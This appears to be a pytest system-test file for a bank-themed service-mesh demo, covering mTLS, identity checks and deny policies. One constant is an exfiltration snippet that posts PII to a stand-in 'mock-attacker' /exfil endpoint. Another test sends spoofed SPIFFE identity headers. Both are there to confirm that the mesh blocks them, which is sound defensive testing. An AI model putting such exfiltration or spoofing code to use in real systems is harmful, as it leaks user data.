"""Traffic through the embedded mesh: HBONE with verified SVIDs, STRICT mTLS, and Act 3's deny.

Each case checks what the user would check on a cluster: the workload's
answer, the attacker's store, the ztunnel access log line, and the metric.
"""

from __future__ import annotations

import asyncio
import ssl
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from tests.system.conftest import Cluster
from trustusbank.mesh.hbone.client import open_tunnel
from trustusbank.mesh.hbone.h2 import HboneError, HboneRefused
from trustusbank.mesh.identity.ca import CertificateAuthority
from trustusbank.mesh.identity.spiffe import SpiffeId
from trustusbank.mesh.identity.tls import client_context

CONVERTER = "spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter"
FX_API = "spiffe://cluster.local/ns/external-fx/sa/fx-api"
FETCH_RATE = (
    "import httpx; r = httpx.get('http://fx-api.external-fx.svc.cluster.local:8080/latest?from=GBP&to=USD');"
    "print(r.json()['rates']['USD'])"
)
EXFIL = (
    "import httpx, sys\n"
    "try:\n"
    "    url = 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil'\n"
    "    r = httpx.post(url, json={'pii': 1})\n"
    "    print('status', r.status_code)\n"
    "except httpx.HTTPError as e:\n"
    "    print('refused', type(e).__name__, e); sys.exit(3)\n"
)


def _pod_ip(cluster: Cluster, deployment: str) -> str:
    return next(p.ip for p in cluster.topology.pods if p.deployment == deployment)


def _attacker_count(cluster: Cluster) -> int:
    attacker = next(p for p in cluster.topology.pods if p.deployment == "mock-attacker")
    return int(httpx.get(f"http://{attacker.app_ip}:8080/api/count", trust_env=False).json()["total"])


def _metrics(cluster: Cluster) -> str:
    return "".join(
        httpx.get(f"http://{node.ip}:15020/metrics", trust_env=False).text for node in cluster.topology.nodes
    )


def _series(metrics: str, name: str, **labels: str) -> list[str]:
    """The exposition lines of `name` carrying every one of `labels`."""
    wanted = [f'{k}="{v}"' for k, v in labels.items()]
    return [
        line
        for line in metrics.splitlines()
        if line.startswith(name + "{") and all(w in line for w in wanted)
    ]


def _log_matching(cluster: Cluster, **fields: str) -> list[dict]:
    return [r for r in cluster.access_log() if all(r.get(k) == v for k, v in fields.items())]


def test_pod_to_pod_crosses_hbone_with_both_identities_verified(cluster: Cluster) -> None:
    result = cluster.exec_python("trustusbank-bank-vendors/currency-converter", FETCH_RATE)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "1.27"
    outbound = cluster.wait_for(
        lambda: _log_matching(
            cluster, direction="outbound", **{"src.identity": CONVERTER, "dst.identity": FX_API}
        ),
        what="the source ztunnel's access log line",
    )[-1]
    inbound = cluster.wait_for(
        lambda: _log_matching(
            cluster, direction="inbound", **{"src.identity": CONVERTER, "dst.identity": FX_API}
        ),
        what="the destination ztunnel's access log line",
    )[-1]
    fx_ip = _pod_ip(cluster, "fx-api")
    assert outbound["dst.hbone_addr"] == f"{fx_ip}:15008"
    assert outbound["dst.service"] == "fx-api.external-fx.svc.cluster.local"
    assert inbound["src.addr"].startswith(_pod_ip(cluster, "currency-converter") + ":")
    assert inbound["bytes_sent"] > 0
    assert "error" not in inbound
    assert inbound["trace_id"] == outbound["trace_id"], "one trace across both hops"
    metrics = _metrics(cluster)
    for reporter in ("source", "destination"):  # as real ztunnel: L4 series on both sides, no request metric
        assert _series(
            metrics,
            "istio_tcp_connections_opened_total",
            reporter=reporter,
            response_flags="-",
            source_principal=CONVERTER,
            destination_principal=FX_API,
        )
    assert "istio_requests_total" not in metrics


def test_plaintext_to_an_ambient_pod_is_refused_under_strict(cluster: Cluster) -> None:
    fx_ip = _pod_ip(cluster, "fx-api")
    with pytest.raises(httpx.HTTPError):
        httpx.get(f"http://{fx_ip}:8080/latest", trust_env=False, timeout=5)
    refused = cluster.wait_for(
        lambda: [
            r
            for r in _log_matching(cluster, direction="inbound")
            if "plaintext refused" in r.get("error", "")
        ],
        what="the plaintext refusal",
    )
    assert refused[-1]["dst.workload"] == "fx-api-0"


def _tunnel(cluster: Cluster, ctx: ssl.SSLContext, ip: str, port: int, headers: dict[str, str] | None = None):
    async def go() -> int:
        tunnel = await open_tunnel(
            ip, 15008, authority=f"{ip}:{port}", ssl_context=ctx, expected_identity=None, headers=headers
        )
        await tunnel.write(b"GET /healthz HTTP/1.0\r\nHost: x\r\n\r\n")
        data = await tunnel.read()
        await tunnel.close()
        return len(data)

    return asyncio.run(go())


def _context_for(ca: CertificateAuthority, identity: SpiffeId, bundle: bytes, tmp: Path) -> ssl.SSLContext:
    svid = ca.issue(identity, timedelta(minutes=5))
    (tmp / "cert.pem").write_bytes(svid.cert_pem)
    (tmp / "key.pem").write_bytes(svid.key_pem)
    return client_context(tmp / "cert.pem", tmp / "key.pem", bundle)


def test_a_certificate_from_another_ca_is_refused(cluster: Cluster, tmp_path: Path) -> None:
    rogue = CertificateAuthority.load_or_create(tmp_path / "rogue-ca")
    identity = SpiffeId.parse(CONVERTER)
    ctx = _context_for(rogue, identity, cluster.files.trust_bundle.read_bytes(), tmp_path)
    with pytest.raises((HboneError, ssl.SSLError, ConnectionError, OSError)):
        _tunnel(cluster, ctx, _pod_ip(cluster, "fx-api"), 8080)
    cluster.wait_for(
        lambda: [r for r in cluster.access_log() if "tls handshake failed" in r.get("error", "")],
        what="the handshake refusal in the access log",
    )


def test_a_client_without_a_certificate_is_refused(cluster: Cluster) -> None:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False
    ctx.load_verify_locations(cadata=cluster.files.trust_bundle.read_text())
    ctx.set_alpn_protocols(["h2"])
    with pytest.raises((HboneError, ssl.SSLError, ConnectionError, OSError)):
        _tunnel(cluster, ctx, _pod_ip(cluster, "fx-api"), 8080)


def test_act3_deny_stops_converter_to_attacker_but_not_to_fx_api(cluster: Cluster, defence_on: None) -> None:
    before = _attacker_count(cluster)
    leak = cluster.exec_python("trustusbank-bank-vendors/currency-converter", EXFIL)
    assert leak.returncode == 3, leak.stdout + leak.stderr
    assert _attacker_count(cluster) == before, "nothing may reach the attacker"

    rate = cluster.exec_python("trustusbank-bank-vendors/currency-converter", FETCH_RATE)
    assert rate.stdout.strip() == "1.27", rate.stderr

    denied = cluster.wait_for(
        lambda: [
            r
            for r in _log_matching(cluster, direction="inbound", **{"src.identity": CONVERTER})
            if r.get("error") == "connection closed due to policy rejection: "
            "explicitly denied by: external-attacker/deny-bank-to-attacker"
        ],
        what="the destination's deny line",
    )
    assert denied[-1]["dst.workload"] == "mock-attacker-0"
    source_side = cluster.wait_for(
        lambda: [
            r
            for r in _log_matching(cluster, direction="outbound", **{"src.identity": CONVERTER})
            if r.get("error") == "http status: 401 Unauthorized"
        ],
        what="the source's refused CONNECT",
    )
    assert source_side[-1]["dst.service"] == "mock-attacker.external-attacker.svc.cluster.local"
    metrics = _metrics(cluster)
    assert "trustusbank_authz_denials_total{" in metrics
    assert 'policy="external-attacker/deny-bank-to-attacker"' in metrics
    # Istio's series, as a cluster's ztunnel writes them: DENY where policy decided, CONNECT at the source.
    to_attacker = {"source_principal": CONVERTER, "destination_workload": "mock-attacker"}
    closed = "istio_tcp_connections_closed_total"
    assert _series(metrics, closed, reporter="destination", response_flags="DENY", **to_attacker)
    assert _series(metrics, closed, reporter="source", response_flags="CONNECT", **to_attacker)
    assert not _series(metrics, closed, reporter="source", response_flags="DENY", **to_attacker)


def test_a_spoofed_identity_header_counts_for_nothing(
    cluster: Cluster, defence_on: None, tmp_path: Path
) -> None:
    """A real SVID for account-mcp, claiming in headers to be the converter, the only one fx-api admits."""
    ca = CertificateAuthority.load_or_create(cluster.files.ca)
    account = SpiffeId("cluster.local", "trustusbank-bank-mcp", "account-mcp")
    ctx = _context_for(ca, account, cluster.files.trust_bundle.read_bytes(), tmp_path)
    spoof = {"x-forwarded-client-cert": f"URI={CONVERTER}", "x-spiffe-id": CONVERTER}
    with pytest.raises(HboneRefused) as refused:
        _tunnel(cluster, ctx, _pod_ip(cluster, "fx-api"), 8080, headers=spoof)
    assert refused.value.status == 401
    line = cluster.wait_for(
        lambda: [
            r
            for r in _log_matching(cluster, direction="inbound", **{"dst.workload": "fx-api-0"})
            if r.get("src.identity") == account.uri and "policy rejection" in r.get("error", "")
        ],
        what="the deny naming the real identity",
    )
    assert "allow policies exist, but none allowed" in line[-1]["error"]


INBOX = "soc-inbox.trustusbank-observability.svc.cluster.local"
EVALUATOR_ID = "spiffe://cluster.local/ns/trustusbank-observability/sa/alert-evaluator"
MAIL = (
    "import os, sys\n"
    "from email.message import EmailMessage\n"
    "from trustusbank.alerts.smtp_client import DeliveryError, send, socks_proxy\n"
    "m = EmailMessage()\n"
    "m['From'], m['To'], m['Subject'] = 'x@bank.example', 'soc@bank.example', {subject!r}\n"
    "m.set_content('test')\n"
    "try:\n"
    f"    send(m, {INBOX!r}, 2525, socks_proxy(dict(os.environ)), timeout=5)\n"
    "    print('sent')\n"
    "except DeliveryError as e:\n"
    "    print('refused', e); sys.exit(3)\n"
)
READ_EVALUATOR = (
    "import httpx, sys\n"
    "try:\n"
    "    r = httpx.get('http://alert-evaluator.trustusbank-observability.svc.cluster.local:8080/api/alerts')\n"
    "    print('status', r.status_code)\n"
    "except httpx.HTTPError as e:\n"
    "    print('refused', type(e).__name__, e); sys.exit(3)\n"
)


def test_the_soc_namespace_admits_only_the_evaluators_mail(cluster: Cluster, defence_on: None) -> None:
    """Under the defence set, trustusbank-observability is default-deny: the evaluator may mail the
    inbox; nobody else may reach either, while the host still reads both straight into the pod."""
    inbox = next(p for p in cluster.topology.pods if p.deployment == "soc-inbox")
    evaluator = next(p for p in cluster.topology.pods if p.deployment == "alert-evaluator")

    chatbot = "trustusbank-bank-frontend/chatbot"
    forged = cluster.exec_python(chatbot, MAIL.format(subject="forged by chatbot"))
    assert forged.returncode == 3, forged.stdout + forged.stderr
    peek = cluster.exec_python(chatbot, READ_EVALUATOR)
    assert peek.returncode == 3, peek.stdout + peek.stderr
    real = cluster.exec_python(
        "trustusbank-observability/alert-evaluator", MAIL.format(subject="from the evaluator")
    )
    assert real.stdout.strip() == "sent", real.stdout + real.stderr

    subjects = [
        m["subject"]
        for m in httpx.get(
            f"http://{inbox.app_ip}:8080/api/messages", params={"all": "1", "limit": 1000}, trust_env=False
        ).json()["messages"]
    ]
    assert "from the evaluator" in subjects
    assert "forged by chatbot" not in subjects
    assert httpx.get(f"http://{evaluator.app_ip}:8080/healthz", trust_env=False).status_code == 200
    chatbot_id = "spiffe://cluster.local/ns/trustusbank-bank-frontend/sa/chatbot"
    denied = cluster.wait_for(
        lambda: [
            r
            for r in _log_matching(cluster, direction="inbound", **{"src.identity": chatbot_id})
            if r.get("dst.workload") in ("soc-inbox-0", "alert-evaluator-0")
            and "policy rejection" in r.get("error", "")
        ],
        what="the SOC namespace's denies",
    )
    assert {r["dst.workload"] for r in denied} == {"soc-inbox-0", "alert-evaluator-0"}
    assert _log_matching(
        cluster, direction="inbound", **{"src.identity": EVALUATOR_ID, "dst.workload": "soc-inbox-0"}
    )
